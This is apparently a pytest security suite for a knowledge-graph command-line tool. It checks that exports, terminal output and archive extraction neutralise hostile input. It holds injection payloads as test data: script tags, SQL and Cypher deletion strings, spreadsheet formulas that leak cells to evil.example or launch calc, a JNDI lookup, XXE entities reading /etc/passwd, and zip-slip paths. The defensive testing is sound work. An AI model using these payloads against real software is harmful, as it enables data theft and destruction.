"""What stands in an article does nothing, from the file it comes in to every output; and what
SECURITY.md names is there."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

from kgraph.cli import main
from kgraph.export import FILES, FOLDERS
from tests.stored import contents, exported

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).parents[1]
NAMED = re.compile(r"`(tests/[\w/]+\.py)::(\w+)`")
ATTACKS = {
    "script": "<script>window.hacked=1</script>",
    "end": "</script><script>window.hacked=2</script>",
    "table": "Robert'); DROP TABLE documents; --",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Putin")',
    "plus": "+cmd|' /C calc'!A0",
    "escape": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "turned": "\u202egpj.exe\u2066",
    "link": "[Putin](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} %n%n",
    "cypher": "'}) DETACH DELETE n //",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
}
DEVICES = ("CON", "nul", "COM1", "aux", "../../escaped", "...", "a/b", "x\\y")
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
ARTICLE = (
    "{0} met Vladimir Putin in Moscow. Putin praised {0} on Friday. “I thank Putin,” {0} said."
)


def article(name: str) -> str:
    return ARTICLE.format(name)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Articles with attacks as text, name, title and file name, archived claims with attacks as
    names of entities; and their graph."""
    folder = tmp_path_factory.mktemp("home")
    (folder / "news").mkdir()
    rows = [
        {"id": f"{attack}.txt", "title": attack, "text": f"{article('Barack Obama')}\n{attack}"}
        for attack in ATTACKS.values()
    ]
    (folder / "news/rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    for kind, attack in ATTACKS.items():
        if kind == "escape":
            continue  # no text file, as it is
        (folder / "news" / f"{kind}.txt").write_text(article(attack))
    (folder / "news/=cmd()\x1b[2J\u202e.txt").write_text(article("Angela Merkel"))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.delenv("KGRAPH_GRAPH", raising=False)
        assert run("build", "news", "-q") == ""
        claims = [json.loads(line) for line in run("export", "jsonl").splitlines()]
        Path("claims.jsonl").write_text("".join(map(forged, claims[:20])))
        assert run("import", "claims.jsonl", "-q") == ""
        yield folder


def forged(claim: dict[str, object]) -> str:
    """The same claim of another document, between entities that are called like attacks."""
    number = int(str(claim["id"])[:4], 16)
    names = [*ATTACKS.values(), *DEVICES]
    text = " met ".join(names[(number + n) % len(names)] for n in range(2))
    first, second = text.split(" met ", 1)
    end = len(text)
    ends = {
        "subject": (first, 0, len(first)),
        "object": (second, end - len(second), end),
    }
    row = claim | {
        "id": f"{number:016x}",
        "document": f"{first}.txt",
        "sentence": {"text": text, "start": 0, "end": end},
        "predicate": {
            "text": "met", "start": len(first) + 1, "end": len(first) + 4, "lemma": first,
            "class": None,
        },
        "attribution": None, "time": None, "place": None, "amount": None,
    } | {
        key: {"text": name, "start": start, "end": stop, "entity": name, "type": "PERSON"}
        for key, (name, start, stop) in ends.items()
    }  # fmt: skip
    row["document_id"] = f"forged {number}"
    return json.dumps(row) + "\n"


def run(*words: str) -> str:
    result = CliRunner().invoke(main, words)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 3, 4), result.output
    assert "Traceback" not in result.output
    return result.stdout


def test_attacks_became_names(home: Path) -> None:
    """Else the tests below would test nothing."""
    names = {row["name"] for row in contents(home / "out")["entities"]}
    assert len(names & {*ATTACKS.values(), *DEVICES}) > 10


def test_page(home: Path) -> None:
    """One that is run in a browser is in tests/export/test_page_untrusted.py."""
    page = (home / "out/graph.html").read_text(encoding="ascii")
    assert page.count("</script") == page.count("<script")
    assert "window.hacked=1</script>" not in page
    assert not re.search(r"<(?:img|iframe|object|embed|link|base)\b", page.split("<script")[0])
    policy = re.search(r'http-equiv="Content-Security-Policy"\s+content="([^"]*)"', page)
    assert policy
    assert "default-src 'none'" in policy[1]


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_xml(form: str, home: Path) -> None:
    text = exported(home / "out", form)
    assert b"<!DOCTYPE" not in text
    found = ElementTree.fromstring(text)
    assert "script" not in {one.tag.rpartition("}")[2] for one in found.iter()}


@pytest.mark.parametrize("form", ["csv", "neo4j"])
def test_cells_run_nothing(form: str, home: Path) -> None:
    for name, data in exported(home / "out", form).items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert len(rows) > 20
        assert {len(row) for row in rows} == {len(rows[0])}, name
        if form == "csv":
            assert not [c for row in rows for c in row if re.match(r"[=+@\t\r]|-(?!\d)", c)]


QUESTIONS = """
entities --all/top/stats/communities/documents/conflicts/neighbours Putin/evidence Putin
timeline Putin/says Obama/search Putin/path Putin Obama/verify
""".strip().replace("\n", "/")


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("line", QUESTIONS.split("/"))
def test_terminal(line: str) -> None:
    """No control sequence and no letter that turns the line around, in answers for people."""
    shown = run(*line.split())
    assert not CONTROLS.search(shown), ascii(CONTROLS.search(shown))


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("line", QUESTIONS.split("/")[:-1])
@pytest.mark.parametrize("form", ["json", "jsonl", "csv"])
def test_answers_for_programs(line: str, form: str) -> None:
    shown = run(*line.split(), "--format", form)
    if form != "csv":
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    else:
        cells = [cell for row in csv.reader(io.StringIO(shown)) for cell in row]
        assert not [c for c in cells if re.match(r"[=+@\t\r]|-(?![\d.])", c)]


@pytest.mark.usefixtures("home")
def test_answers_hold_what_was_read() -> None:
    """Escaped, and not left out."""
    rows = json.loads(run("entities", "--all", "--format", "json"))
    assert ATTACKS["escape"] in {row["name"] for row in rows}


@pytest.mark.parametrize("attack", [*ATTACKS.values(), *DEVICES, '" OR 1=1', "NEAR(", "*", "%"])
def test_names_in_questions_are_values(attack: str, home: Path) -> None:
    before = contents(home / "out")
    for question in ("neighbours", "evidence", "search", "says", "timeline"):
        shown = CliRunner().invoke(main, [question, "--", attack])
        assert shown.exit_code in (0, 3, 4), shown.output
        assert not CONTROLS.search(shown.output)
    assert contents(home / "out") == before


@pytest.mark.parametrize("form", sorted(FOLDERS))
def test_names_of_files(form: str, home: Path, tmp_path: Path) -> None:
    """Names are those of files of this folder, on every system, and no devices."""
    device = re.compile(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?")
    run("export", form, "-o", str(tmp_path / "in/out"))
    for path in (tmp_path / "in").rglob("*"):
        assert not device.fullmatch(path.name)
        assert not set(path.name) & set('<>:"|?*\\')
        assert not CONTROLS.search(path.name)
        assert not path.is_symlink()
    assert sorted(one.name for one in tmp_path.iterdir()) == ["in"]
    assert home.exists()


@pytest.mark.parametrize("form", sorted(FILES))
def test_every_file_is_text_without_controls(form: str, home: Path) -> None:
    text = exported(home / "out", form).decode()
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)


def test_notes_have_no_links_of_articles(home: Path) -> None:
    for name, note in exported(home / "out", "obsidian").items():
        body = note.decode().partition("\n---\n")[2]
        assert not re.search(r"(?<!\\)\]\((?:javascript|https?):", body), name
        assert not re.search(r"(?<!\\)<[a-zA-Z/!]", body), name


def test_archive_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with zipfile.ZipFile("news.zip", "w") as archive:
        for name in ("../out.txt", "/tmp/kgraph-escaped.txt", "C:\\out.txt", "CON.txt", "good.txt"):
            archive.writestr(name, article("Barack Obama"))
    result = CliRunner().invoke(main, ["extract", "news.zip"])
    assert result.exit_code == 5
    assert {json.loads(line)["document"] for line in result.stdout.splitlines()} == {
        "news.zip/good.txt"
    }
    assert [path.name for path in tmp_path.iterdir()] == ["news.zip"]


NO_NETWORK = """
import socket, sys
def refuse(*args, **kwargs):
    raise SystemExit("asked the network")
socket.socket.connect = socket.getaddrinfo = socket.create_connection = refuse
from kgraph.cli import main
main(sys.argv[1:])
"""


def test_nothing_asks_the_network(tmp_path: Path) -> None:
    page = (
        '<!DOCTYPE html [<!ENTITY e SYSTEM "http://evil.example/e">]><html><head>'
        '<link rel="stylesheet" href="http://evil.example/s.css"></head><body><article><p>'
        f"{article('Barack Obama')} &e;</p><img src='http://evil.example/x.png'></article></body>"
    )
    (tmp_path / "page.html").write_text(page)
    (tmp_path / "feed.rss").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><item><title>T</title><description>'
        f"{article('Joe Biden')}</description><link>http://evil.example/</link></item></channel></rss>"
    )
    command = [sys.executable, "-c", NO_NETWORK, "build", ".", "-o", "out"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_no_file_is_unpickled_and_nothing_is_evaluated() -> None:
    """Pickles, marshalled code and YAML tags would run what stands in a file."""
    risky = re.compile(
        r"(?<![\w.])(?:pickle|marshal|shelve|joblib)\.(?:load|open|Unpickler)"
        r"|(?<![\w.])(?:eval|exec)\(|yaml\.(?:unsafe_)?load\(|shell=True|os\.system\("
    )
    found = {
        file.relative_to(ROOT / "kgraph").as_posix()
        for file in (ROOT / "kgraph").rglob("*.py")
        if risky.search(file.read_text(encoding="utf-8"))
    }
    # Private pipes, and the work folder of a cluster: SECURITY.md says both.
    assert found == {"workers.py", "cluster/extracting.py", "cluster/work.py"}


@pytest.mark.skipif(os.name != "posix", reason="permissions of POSIX")
def test_temporary_files_are_private_and_permissions_stay(tmp_path: Path) -> None:
    from kgraph import files

    path = tmp_path / "private.csv"
    path.write_text("old")
    path.chmod(0o600)
    with files.target(path) as out:
        out.write(b"new")
        (made,) = tmp_path.glob(".*")
        assert made.stat().st_mode & 0o077 == 0
    assert path.read_text() == "new"
    assert path.stat().st_mode & 0o777 == 0o600
    with files.folder(tmp_path / "sheets") as new, new("a.csv"):
        (made,) = (tmp_path / "sheets").glob(".*")
        assert made.stat().st_mode & 0o077 == 0


def test_link_in_place_of_what_was_left_is_not_followed(tmp_path: Path) -> None:
    from kgraph import files

    (tmp_path / "precious").mkdir()
    (tmp_path / "precious/file").write_text("kept")
    (tmp_path / ".kgraph-abcdefgh.part").symlink_to(tmp_path / "precious")
    (tmp_path / ".a.csv.abcdefgh.part").symlink_to(tmp_path / "precious/file")
    with files.folder(tmp_path) as new, new("b.csv"):
        pass
    with files.target(tmp_path / "a.csv"):
        pass
    assert (tmp_path / "precious/file").read_text() == "kept"


# SECURITY.md


def named() -> list[tuple[str, str]]:
    return NAMED.findall((ROOT / "SECURITY.md").read_text(encoding="utf-8"))


def test_security_names_tests() -> None:
    text = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
    assert len(named()) > 30
    assert text.count("::") == len(named())


@pytest.mark.parametrize(("file", "test"), sorted(set(named())))
def test_named_test_is_collected(file: str, test: str) -> None:
    """By its name, at the level of a module, where pytest finds it."""
    text = (ROOT / file).read_text(encoding="utf-8")
    assert Path(file).name.startswith("test_")
    assert len(re.findall(rf"^(?:async )?def {test}\(", text, re.M)) == 1
